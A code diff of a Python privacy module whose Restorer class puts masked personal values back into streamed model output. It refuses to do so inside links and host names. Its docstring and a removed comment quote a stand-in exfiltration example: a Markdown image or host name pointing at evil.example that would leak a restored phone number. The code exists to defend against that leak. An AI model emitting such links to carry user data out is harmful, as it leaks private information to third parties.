@@ -19,153 +19,107 @@ side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``, and a chat win
 from __future__ import annotations
 
 import functools
-import html
 import re
 import urllib.parse
-from dataclasses import dataclass
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, NamedTuple
 
 from sllm.privacy.findings import KINDS
 from sllm.privacy.json_places import JsonPlaces, encoded_string
 from sllm.privacy.link_places import LinkPlaces
 from sllm.privacy.regex import lazy
-from sllm.privacy.text import fold_char, folded
 
 if TYPE_CHECKING:
+    from collections.abc import Sequence
+
     from sllm.privacy.placeholders import Form, Placeholders
 
 __all__ = ["Restorer"]
 
-_OPEN = frozenset("[［【〔")
-_CLOSE = frozenset("]］】〕")
-# Brackets as other formats escape them: what opens, and what closes then.
+# Full-width forms of ASCII.
+_WIDE = {code: code - 0xFEE0 for code in range(0xFF01, 0xFF5F)}
+
+# The parts of a placeholder. All are bounded, so that what is held back is bounded too.
+_SPACE = r"\s\u200b-\u200d\u2060\ufeff"
+_SPACES = rf"(?:[{_SPACE}]|\\(?:[nrt]|\Z)){{0,4}}"
+_JOINER = r"_*‐‑–-"
+_JOINT = rf"{_SPACES}\\{{0,2}}[{_JOINER}]?{_SPACES}"
+_KIND = rf"(?:[^\W\d]|[{_SPACE}\\{_JOINER}]){{0,24}}"
+_NONCE = r"[a-z][a-z0-9]{3,15}"
+# Brackets as they are, as Markdown has them, and as JSON, URLs and HTML do: what opens, and what closes then.
 _ENCODED = {"\\u005b": "\\u005d", "%5b": "%5d", "&#91;": "&#93;"}
-_ENCODED_FIRST = frozenset(opening[0] for opening in _ENCODED)
-_SPACE = frozenset(" \t\r\n\u00a0\u3000\u200b\u200c\u200d\u2060\ufeff\u202f")
-_JOINER = frozenset("_-*‐‑–＿－")
-_ESCAPE = "\\"
-_ESCAPED_SPACE = frozenset("nrt")  # as JSON and programs write what is in _SPACE
-# Bounds of what is skipped, so that what is held back is bounded too.
-_MAX_SPACES = 4
-_MAX_ZEROS = 6
-_MAX_KIND = 24
+_OPEN = "|".join([r"\\?[\[【〔]", *map(re.escape, _ENCODED)])
+_CLOSE = "|".join([r"\\?[\]】〕]", *map(re.escape, _ENCODED.values())])
+_LONGEST = 160  # characters, more than a placeholder has
+
+_SPLITS_KIND = lazy(rf"(?:\\[nrt]|[{_SPACE}\\{_JOINER}])+")
+_BRACKET = lazy(r"[\[\]]")
+# The shape of a placeholder, whether it was issued or not, and of one without a nonce.
+_SHAPE = lazy(
+    rf"(?:{_OPEN})\s?([^\W\d_]{{1,16}})[_\s-]{{1,4}}0{{0,6}}([0-9]{{1,9}})"
+    rf"(?:(?:[_\s-]|\\[nrt]){{1,4}}([a-z][a-z0-9]{{3,11}}))?\s?(?:{_CLOSE})"
+)
+
 # How far behind a placeholder the rest of a host name is looked for; there may be more placeholders in it.
 _MAX_HOST = 512
-_DIGITS = frozenset("0123456789")
-_LETTERS = frozenset("abcdefghijklmnopqrstuvwxyz")
-_ALPHANUMERIC = _LETTERS | _DIGITS
-
-# The shape of a placeholder that was not issued, back from its closing bracket; and of one without a nonce.
-_UNKNOWN = lazy(
-    r"(?:[\[［【〔]|%5b|\\u005b|&#91;)\s?[^\W\d_]{1,16}[_\s-]{1,4}[0-9]{1,9}(?:[_\s-]|\\[nrt]){1,4}[a-z][a-z0-9]{3,11}\s?\Z",
-    re.I,
+# What ends a word for every program that looks for names of hosts and for addresses.
+_WORD = lazy(r"[^\s<>!'()*/?{}，。！？；：、…“”‘’「」『』《》〈〉（）／—·｡､]*")
+# What makes a word that goes on so behind a placeholder the name of a host, or an address: a dot and a name
+# of a host behind it ("[PHONE_1_k7q4].谢谢" has none), an at-sign, or one of them as HTML has it.
+_NO_LABEL = r".．@＠\"#&,:;"
+_GOES_ON = lazy(
+    rf"[^{_NO_LABEL}]*[.．][^@＠\"#&,:;]*?(?:[A-Za-z0-9]|[^\W_][^{_NO_LABEL}]*[.．][^\W_])"
+    r"|.*?(?:[@＠].*?[^\W_]|&(?:#0*(?:46|64)|#[xX]0*(?:2[eE]|40)|period|commat)(?![A-Za-z0-9]))"
 )
-_WITHOUT_NONCE = lazy(
-    r"(?:[\[［【〔]|%5b|\\u005b|&#91;)\s?([a-z]{2,16})[_\s-]{1,4}0{0,6}([1-9][0-9]{0,8})\s?\Z", re.I
-)
-_BRACKET = lazy(r"[\[\]]")
-_CLOSING = lazy(r"[\]］】〕]|%5d|\\u005d|&#93;", re.I)
-_TAIL = 80
-_LONGEST_NONCE = 16  # characters at the border of two pieces that may belong to one
-
-# What ends a label of a host name for every program that looks for such names, and what ends an address.
-_SEPARATORS = r"\s<>!'()*/?{}，。！？；：、…“”‘’「」『』《》〈〉（）／—·｡､"
-_LABEL = lazy(rf"[^{_SEPARATORS}.．@＠\"#&,:;]*")
-_MAILBOX = lazy(rf"[^{_SEPARATORS}@＠]*")
-_ENTITY = lazy(r"&#?[A-Za-z0-9]{1,8};")
-_HOST = lazy(rf"[^{_SEPARATORS}@＠\"#&,:;]*")
-# A name of a host or a top-level domain; "[PHONE_1_k7q4].谢谢" has none.
-_IS_HOST = lazy(r"[A-Za-z0-9]|[^\W_][^.．]*[.．][^\W_]")
-_ALNUM = lazy(r"[^\W_]")
 # A value that is a URL without a path: what follows may be more of its host.
 _HOST_AT_END = lazy(r"(?://|(?<![^\W_])www\.)[^/?#\\\s]*\Z", re.I)
 _REST_OF_HOST = lazy(r"""[^\s/?#\\"'<>]*""")
-_OTHER_HOST = lazy(r"[@＠%]|[.．][^\W_]|[。｡][A-Za-z0-9]")
+_OTHER_HOST = lazy(r".*?(?:[@＠%]|[.．][^\W_]|[。｡][A-Za-z0-9])")
 
 
-@functools.lru_cache(maxsize=256)
-def _starts(firsts: str, *, quotes: bool) -> re.Pattern[str]:
-    """Where a placeholder can begin: at a bracket or its escape, at a capital letter or a first letter of a
-    kind, and with ``quotes`` at the quote before a number that was masked.
+def _begun(literals: Sequence[str]) -> str:
+    """A pattern of all that begins one of the texts and is not all of it."""
+    return "|".join(re.escape(one[:n]) for one in literals for n in range(len(one) - 1, 0, -1))
+
+
+@functools.lru_cache(maxsize=64)
+def _patterns(kinds: tuple[str, ...]) -> tuple[re.Pattern[str], re.Pattern[str]]:
+    """What is a placeholder, with a quote before it that may belong to it, and what may become one at the end
+    of a text, where kinds (in lower case) were issued.
     """
-    wide = "".join(chr(ord(char) + offset) for char in firsts for offset in (0, 0xFEE0))
-    quote = '"' if quotes else ""
-    return re.compile(rf"[\\%&\[［【〔{quote}]|(?<![A-Za-z0-9])[A-ZＡ-Ｚ{wide}]")
+    words = "(?:_[A-Za-z_]{0,18})?"
+    bare = (
+        rf"(?<![A-Za-z0-9])(?P<bare>(?:(?i:{'|'.join(kinds)})|[A-Z]{{1,24}}){words}(?![A-Za-z])"
+        rf"|[A-Z][A-Za-z]{{0,23}}{words}(?=\\?[{_JOINER}]|\\?\Z))"
+    )
+    kind = rf"(?:(?P<open>(?i:{_OPEN}))(?P<kind>{_KIND})|{bare})"
+    whole = (
+        rf'(?:(?<!\\)")?(?P<all>{kind}{_JOINT}0{{0,6}}(?P<index>[1-9][0-9]{{0,8}}){_JOINT}(?P<nonce>(?i:{_NONCE}))'
+        rf"(?![A-Za-z0-9])(?:(?P<gap>{_SPACES})(?P<close>(?i:{_CLOSE})))?)"
+    )
+    close = rf"(?:{_SPACES}(?:\\|(?i:{_CLOSE}|{_begun(list(_ENCODED.values()))}))?)?"
+    rest = rf"{_JOINT}(?:0{{0,6}}[0-9]{{0,9}}(?:(?<=[0-9]){_JOINT}(?:(?i:[a-z][a-z0-9]{{0,15}}{close}))?)?)?"
+    first = rf"\\|(?i:{_begun(list(_ENCODED))})|(?<![A-Za-z0-9])(?i:{_begun(kinds)})"
+    return re.compile(whole), re.compile(rf'(?:(?:(?<!\\)")?(?:{kind}{rest}|{first})|")\Z')
 
 
-class _UndecidedError(Exception):
-    """What was received so far does not decide whether it is a placeholder."""
-
-
-@dataclass(frozen=True, slots=True)
-class _Match:
+class _Match(NamedTuple):
     """A placeholder in a text: the offset behind it, what it stands for, the bracket that opens it (or ""),
-    and whether it is taken together with the quotes around it.
+    and whether the bracket that closes it may belong to what stands before.
     """
 
     end: int
     form: Form
     opening: str
-    quoted: bool = False
-
-
-class _Reader:
-    """Reads what was received so far, character by character.
-
-    Raises:
-        _UndecidedError: a character that was not received yet, from any of the methods.
-
-    """
-
-    def __init__(self, text: str, final: bool) -> None:
-        self._text = text
-        self._final = final
-
-    def at(self, j: int) -> str:
-        """The character at an offset; "" after the end of the whole text."""
-        if j < len(self._text):
-            return self._text[j]
-        if self._final:
-            return ""
-        raise _UndecidedError
-
-    def folded(self, j: int) -> str:
-        char = self.at(j)
-        return fold_char(char) if char else ""
-
-    def literal(self, j: int, expected: str) -> bool:
-        """Whether this stands at ``j``, in any case."""
-        return all(self.at(j + i).lower() == char for i, char in enumerate(expected))
-
-    def skip(self, j: int) -> int:
-        """The offset after the spaces that begin at ``j``."""
-        for _ in range(_MAX_SPACES):
-            if self.at(j) in _SPACE:
-                j += 1
-            elif self.at(j) == _ESCAPE and self.at(j + 1) in _ESCAPED_SPACE:
-                j += 2
-            else:
-                break
-        return j
-
-    def joint(self, j: int) -> int:
-        """The offset after the sign that joins two parts of a placeholder, and the spaces around it."""
-        j = self.skip(j)
-        for _ in range(2):
-            if self.at(j) == _ESCAPE:
-                j += 1
-        if self.at(j) in _JOINER:
-            j += 1
-        return self.skip(j)
+    lone: bool
 
 
 class Restorer:
     """Restores placeholders in a text that comes in pieces.
 
-    ``feed`` returns all that is certain; held back is only what could still become a placeholder that was
-    issued, and one that a host name may follow: to the next space or punctuation mark, 512 characters at
-    most. Together the pieces are the same however the text was cut. Restored values are not searched again,
-    so a value that contains the text of a placeholder stays what it is.
+    ``feed`` returns all that is certain; held back is only what could still become a placeholder, and one
+    that a host name may follow: to the next space or punctuation mark, 512 characters at most. Together the
+    pieces are the same however the text was cut. Restored values are not searched again, so a value that
+    contains the text of a placeholder stays what it is.
 
     A placeholder stays as it is where a program that shows the text might send the value to somebody, for the
     other side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``: in URLs and host names, in targets
@@ -200,15 +154,14 @@ class Restorer:
         self._placeholders = placeholders
         self._held = ""
         self._before = ""  # the last character before what is held
-        self._depth = 0  # brackets open on this line
-        self._tail = ""  # the last of the raw text, for counting
+        self._passed: list[str] = []  # what was returned since the last placeholder
         self._final = False
+        self._depth = 0  # brackets open on the line of the last placeholder
+        self._links = LinkPlaces()  # of the text as it is returned, up to the last placeholder
+        self._json = JsonPlaces()  # likewise
         self.n_restored = 0
         self.n_unknown = 0
         self.n_in_links = 0
-        self._missed = ""  # the last of what was returned unchanged, folded, for counting
-        self._places = LinkPlaces()  # of the text as it is returned
-        self._json = JsonPlaces()  # likewise
 
     def __repr__(self) -> str:
         return (
@@ -228,299 +181,143 @@ class Restorer:
             raise TypeError(f"expected a text, got {type(chunk).__name__}")
         if self._final:
             raise ValueError("the text was finished; a new text needs a new Restorer")
-        self._count(chunk)
-        return self._scan(self._held + chunk)
+        return self._scan(chunk)
 
     def finish(self) -> str:
         """Ends the text, and returns what was held back."""
         if self._final:
             return ""
         self._final = True
-        return self._scan(self._held)
+        rest = self._scan("")
+        self._settle("")
+        return rest
 
-    def _scan(self, text: str) -> str:
-        issued = self._placeholders
-        if not issued.kind_prefixes:
-            self._held = ""
-            self._pass(text)
-            return text
-        firsts = "".join(sorted(prefix for prefix in issued.kind_prefixes if len(prefix) == 1))
-        starts = _starts(firsts, quotes=issued.has_scalars)
+    def _scan(self, chunk: str) -> str:
+        text = self._before + self._held + chunk
         out: list[str] = []
-        at = 0  # up to here everything is in `out`
-        search = 0
-        while True:
-            found = starts.search(text, search)
-            if found is None:
-                break
-            i = found.start()
-            before = text[i - 1] if i else self._before
-            self._pass(text[at:i])
-            out.append(text[at:i])
-            at = i
-            try:
-                match = self._match(text, i, before)
-                in_link = match is not None and self._in_link(text, match.end, match.form.text)
-            except _UndecidedError:
-                self._held = text[i:]
-                return "".join(out)
-            if match is None:
-                search = i + 1
-                continue
-            at = search = match.end
-            if in_link:
-                self.n_in_links += 1
-                self._pass(text[i : match.end], counted=True)
-                out.append(text[i : match.end])
-                continue
-            value = self._written(match)
-            out.append(value)
-            self._json.feed(value)
-            self._places.feed(value, restored=True)
-            self.n_restored += 1
-            self._missed = ""
-            self._before = text[match.end - 1]
-        self._held = ""
-        self._pass(text[at:])
-        out.append(text[at:])
-        return "".join(out)
+        at = search = len(self._before)  # up to `at` everything is in `out`
+        end = len(text)
+        if kinds := self._placeholders.kinds:
+            flat = text.translate(_WIDE)
+            whole, part = _patterns(kinds)
+            low = flat.lower()
+            if not any(nonce in low for nonce in self._placeholders.nonces):
+                search = end
+            end = self._undecided(part, flat, at)
+            while (found := whole.search(flat, search)) is not None and found.start() < end:
+                search = found.start() + 1
+                match = self._read(found, flat)
+                if match is None:
+                    continue
+                start = found.start()
+                self._settle(text[at:start])
+                out.append(text[at:start])
+                # A string of JSON that is nothing but the placeholder of a number: the number has no quotes.
+                quoted = match.form.is_scalar and self._json.place == "value"
+                quoted = quoted and flat[start] == flat[match.end : match.end + 1] == '"'
+                if not quoted and start < found.start("all"):
+                    start += 1
+                    self._settle('"')
+                    out.append('"')
+                at = search = found.end("nonce") if match.lone and self._depth else match.end + quoted
+                in_link = self._in_link(text, at, match.form.text)
+                if in_link is None:
+                    at = end = start
+                    break
+                shown = text[start:at] if in_link else self._written(match, quoted)
+                out.append(shown)
+                self._json.feed(shown)
+                self._links.feed(shown, restored=not in_link)
+                self.n_in_links += in_link
+                self.n_restored += not in_link
+                if end < at:
+                    end = self._undecided(part, flat, at)
+        rest = text[at:end]
+        self._passed.append(rest)
+        self._before, self._held = text[end - 1 : end], text[end:]
+        return "".join([*out, rest])
 
-    def _pass(self, text: str, *, counted: bool = False) -> None:
-        """Notes what is returned unchanged; ``counted``: it is a placeholder, and has been counted."""
-        if not text:
-            return
-        if counted:
-            self._missed = ""
+    def _undecided(self, part: re.Pattern[str], flat: str, at: int) -> int:
+        """From where on a text could become a placeholder when more comes."""
+        found = None if self._final else part.search(flat, max(at, len(flat) - _LONGEST))
+        return len(flat) if found is None else found.start()
+
+    def _read(self, found: re.Match[str], flat: str) -> _Match | None:
+        """The placeholder that has the form of one, if it was issued."""
+        issued = self._placeholders
+        opening, close = (found["open"] or "").lower(), (found["close"] or "").lower()
+        end = found.end("nonce")
+        if opening:
+            kinds = [word for word in _SPLITS_KIND.split(found["kind"]) if word]
+            known = [word.isupper() or word.lower() in issued.kinds for word in kinds]
+            # "[NAME_1_k7q4_address]", "[see NAME_1_k7q4]": the brackets hold more than a placeholder.
+            if flat[end : end + 1] == "_" or (
+                " " in " ".join(found["kind"].split()) and known[-1] and not all(known)
+            ):
+                return None
         else:
-            self._count_nonces(text)
-        self._before = text[-1]
-        self._json.feed(text)
-        self._places.feed(text)
-        line = text.rfind("\n")
-        if line >= 0:
-            self._depth = 0
-            text = text[line + 1 :]
-        for bracket in _BRACKET.finditer(text):
-            self._depth = self._depth + 1 if bracket[0] == "[" else max(0, self._depth - 1)
+            kinds = [found["bare"].strip("_")]
+        if opening in _ENCODED:
+            closed = close == _ENCODED[opening]
+        else:
+            closed = bool(close) and close[-1] in "]】〕" and not (found["gap"] and not opening)
+            if opening[:1] == "\\" and not (closed and close[0] == "\\"):
+                # The backslash is the text's own; the bracket after it begins the placeholder.
+                return None
+        form = issued.form("_".join(kinds).lower(), int(found["index"]), found["nonce"].lower())
+        if form is None:
+            return None
+        return _Match(found.end() if closed else end, form, opening, closed and not opening and close == "]")
 
-    def _written(self, match: _Match) -> str:
+    def _settle(self, text: str) -> None:
+        """Takes the last of what was returned unchanged before a placeholder, and looks at all of that."""
+        text = "".join([*self._passed, text])
+        self._passed.clear()
+        self._json.feed(text)
+        if not self._restores_in_links:
+            self._links.feed(text)
+        _, newline, line = text.rpartition("\n")
+        self._depth = 0 if newline else self._depth
+        for bracket in _BRACKET.findall(line):
+            self._depth = self._depth + 1 if bracket == "[" else max(0, self._depth - 1)
+        self._count_misses(text.translate(_WIDE).lower())
+
+    def _count_misses(self, flat: str) -> None:
+        issued = self._placeholders
+        self.n_unknown += sum(flat.count(nonce) for nonce in issued.nonces)
+        for shape in _SHAPE.finditer(flat):
+            kind, index, nonce = shape.groups()
+            if nonce:
+                self.n_unknown += not any(own in shape[0] for own in issued.nonces)
+            else:
+                known = kind.upper() in KINDS or kind in issued.kinds
+                self.n_unknown += known and bool(issued.nonces_of(int(index)))
+
+    def _written(self, match: _Match, quoted: bool) -> str:
         """How the value is written where the placeholder stands."""
         form = match.form
         place = self._json.place
         if place == "string":
             return encoded_string(form.text) if form.in_json is None else form.in_json
-        if place == "value" and self._json.certain and not match.quoted and not form.is_scalar:
+        if place == "value" and self._json.certain and not quoted and not form.is_scalar:
             return f'"{encoded_string(form.text)}"'
-        if match.opening == "%5b" and self._places.inside:
+        if match.opening == "%5b" and self._restores_in_links:
             return urllib.parse.quote(form.text, safe="")
         return form.text
 
-    def _match(self, text: str, i: int, before: str) -> _Match | None:
-        """The placeholder that begins at ``i``, if one does."""
-        reader = _Reader(text, self._final)
-        if text[i] != '"':
-            return self._match_bare(reader, i, before)
-        # A string of JSON that is nothing but the placeholder of a number: the number has no quotes.
-        if self._json.place != "value":
-            return None
-        match = self._match_bare(reader, i + 1, '"')
-        if match is None or not match.form.is_scalar or reader.at(match.end) != '"':
-            return None
-        return _Match(match.end + 1, match.form, match.opening, quoted=True)
-
-    def _match_bare(self, reader: _Reader, i: int, before: str) -> _Match | None:
-        issued = self._placeholders
-        j = i
-        opening = ""
-        escaped = False
-        if reader.at(j) in _ENCODED_FIRST:
-            opening = next((one for one in _ENCODED if reader.literal(j, one)), "")
-            j += len(opening)
-        if not opening:
-            escaped = reader.at(j) == _ESCAPE
-            j += escaped
-            if reader.at(j) in _OPEN:
-                opening = reader.at(j)
-                j += 1
-        if opening:
-            kind, j = self._kind(reader, reader.skip(j))
-        elif escaped or (before and fold_char(before) in _ALPHANUMERIC):
-            return None
-        else:
-            kind, j = self._bare_kind(reader, j)
-        if j < 0:
-            return None
-        j = reader.joint(j)
-        for _ in range(_MAX_ZEROS):
-            if reader.folded(j) != "0":
-                break
-            j += 1
-        number = ""
-        while (char := reader.folded(j)) in _DIGITS:
-            number += char
-            if number not in issued.index_prefixes:
-                return None
-            j += 1
-        if not number:
-            return None
-        j = reader.joint(j)
-        nonces = issued.nonces_of(int(number))
-        nonce = ""
-        while nonce not in nonces:
-            nonce += reader.folded(j) or "\n"
-            if not any(other.startswith(nonce) for other in nonces):
-                return None
-            j += 1
-        following = reader.folded(j)[:1]
-        # "[NAME_1_k7q4_address]": the brackets hold more than a placeholder, so it is taken without them.
-        if following in _ALPHANUMERIC or (opening and following == "_"):
-            return None
-        end = self._end(reader, j, opening, escaped=escaped)
-        form = issued.form(kind, int(number), nonce)
-        return None if end is None or form is None else _Match(end, form, opening)
-
-    def _kind(self, reader: _Reader, j: int) -> tuple[str, int]:
-        """A kind in brackets, in lower case, which may be any words or none, and the offset behind it; -1: it
-        is none.
+    def _in_link(self, text: str, end: int, value: str) -> bool | None:
+        """Whether the value of a placeholder that ends at ``end`` would be part of a link; None: what follows
+        will tell.
         """
-        start = j
-        words: list[str] = []
-        spaced = False
-        while True:
-            word = ""
-            while (char := reader.folded(j)).isalpha():
-                word += char.upper() if reader.at(j).isupper() else char
-                j += 1
-                if j - start > _MAX_KIND:
-                    return "", -1
-            words.append(word)
-            behind = reader.joint(j)
-            if behind == j or not reader.folded(behind).isalpha():
-                break
-            spaced = spaced or reader.at(j) in _SPACE
-            j = behind
-        # "[see NAME_1_k7q4]": the last word alone is the kind.
-        if spaced and self._is_kind(words[-1]) and not all(map(self._is_kind, words)):
-            return "", -1
-        return "_".join(words).lower(), j
-
-    def _is_kind(self, word: str) -> bool:
-        return word.isupper() or word.lower() in self._placeholders.kind_prefixes
-
-    def _bare_kind(self, reader: _Reader, j: int) -> tuple[str, int]:
-        """A kind without brackets, and the offset behind it; -1: it is none. Its first word was issued, is of
-        capital letters, or begins with one and is joined to what follows; further words are joined by ``_``.
-        """
-        start = j
-        words = [""]
-        capital = titled = reader.at(j).isupper()
-        issued = True
-        while True:
-            char = reader.folded(j)
-            if char in _LETTERS:
-                words[-1] += char
-                if len(words) == 1:
-                    capital = capital and reader.at(j).isupper()
-                    issued = issued and words[0] in self._placeholders.kind_prefixes
-                    if not (capital or titled or issued):
-                        return "", -1
-                j += 1
-            elif char == "_" and words[-1] and reader.folded(j + 1) in _LETTERS:
-                words.append("")
-                j += 1
-            else:
-                break
-            if j - start > _MAX_KIND:
-                return "", -1
-        if not (capital or issued):
-            sign = j + (reader.at(j) == _ESCAPE)
-            if reader.at(sign) not in _JOINER:
-                return "", -1
-        return "_".join(words), j if words[-1] else -1
-
-    def _in_link(self, text: str, end: int, value: str) -> bool:
-        """Whether the value of a placeholder that ends at ``end`` would be part of a link."""
         if self._restores_in_links:
             return False
-        if self._places.inside or self._places.begins_with(value):
+        if self._links.inside or self._links.begins_with(value):
             return True
+        goes_on, word = _GOES_ON, _WORD
         if _HOST_AT_END.search(value[-_MAX_HOST:]):
-            rest, more = self._run(_REST_OF_HOST, text, end)
-            if _OTHER_HOST.search(rest):
-                return True
-            if more:
-                raise _UndecidedError
-            return False
-        # A host name or an address may go on behind it: [PHONE_1_k7q4].evil.example
-        label, more = self._run(_LABEL, text, end)
-        dot = end + len(label)
-        return (not more and self._goes_on(text, dot, ".", _HOST, _IS_HOST)) or self._in_address(text, end)
-
-    def _in_address(self, text: str, end: int) -> bool:
-        """Whether what stands behind a placeholder, up to an ``@``, would make it part of an address."""
-        mailbox, more = self._run(_MAILBOX, text, end)
-        if any(html.unescape(entity[0]) in (".", "@") for entity in _ENTITY.finditer(mailbox)):
-            return True
-        if more:
-            raise _UndecidedError
-        return self._goes_on(text, end + len(mailbox), "@", _MAILBOX, _ALNUM)
-
-    def _goes_on(self, text: str, at: int, sign: str, rest: re.Pattern[str], name: re.Pattern[str]) -> bool:
-        """Whether there is this sign, and in the rest behind it a name."""
-        if _Reader(text, self._final).folded(at) != sign:
-            return False
-        behind, more = self._run(rest, text, at + 1)
-        if name.search(behind):
-            return True
-        if more:
-            raise _UndecidedError
-        return False
-
-    def _run(self, pattern: re.Pattern[str], text: str, start: int) -> tuple[str, bool]:
-        """What matches from ``start``, _MAX_HOST characters at most, and whether more of it may come."""
-        found = pattern.match(text, start, min(len(text), start + _MAX_HOST))
+            goes_on, word = _OTHER_HOST, _REST_OF_HOST
+        found = word.match(text, end, end + _MAX_HOST)
         assert found is not None
-        return found[0], found.end() == len(text) < start + _MAX_HOST and not self._final
-
-    def _end(self, reader: _Reader, j: int, opening: str, *, escaped: bool) -> int | None:
-        """The end of a placeholder whose nonce ends at ``j``; None if it is not one after all."""
-        k = reader.skip(j) if opening else j
-        if opening in _ENCODED:
-            closing = _ENCODED[opening]
-            return k + len(closing) if reader.literal(k, closing) else j
-        escape = reader.at(k) == _ESCAPE
-        closed = reader.at(k + escape) in _CLOSE
-        if escaped and not (closed and escape):
-            # The backslash is the text's own; the bracket after it begins the placeholder.
+        if found.end() == len(text) < end + _MAX_HOST and not self._final:
             return None
-        if closed and not opening and reader.at(k + escape) == "]" and not escape and self._depth > 0:
-            # It closes a bracket that was open before.
-            closed = False
-        return k + escape + 1 if closed else j
-
-    def _count_nonces(self, text: str) -> None:
-        """Counts the nonces in what is returned unchanged: each was a part of a placeholder."""
-        seen = self._missed + folded(text).text
-        for nonce in self._placeholders.nonces:
-            at = seen.find(nonce, max(0, len(self._missed) - len(nonce) + 1))
-            while at >= 0:
-                self.n_unknown += 1
-                at = seen.find(nonce, at + len(nonce))
-        self._missed = seen[-_LONGEST_NONCE + 1 :]
-
-    def _count(self, chunk: str) -> None:
-        """Counts what looks like a placeholder without a nonce of ours, at the bracket that closes it."""
-        text = self._tail + chunk
-        start = len(self._tail)
-        for close in _CLOSING.finditer(text, max(0, start - 5)):
-            if close.end() <= start:
-                continue
-            before = text[max(0, close.start() - 60) : close.start()]
-            if shape := _UNKNOWN.search(before):
-                self.n_unknown += not any(nonce in shape[0].lower() for nonce in self._placeholders.nonces)
-            elif shape := _WITHOUT_NONCE.search(before):
-                kind, index = shape[1].lower(), int(shape[2])
-                issued = self._placeholders
-                known = kind.upper() in KINDS or kind in issued.kind_prefixes
-                self.n_unknown += known and bool(issued.nonces_of(index))
-        self._tail = text[-_TAIL:]
+        return goes_on.match(found[0]) is not None
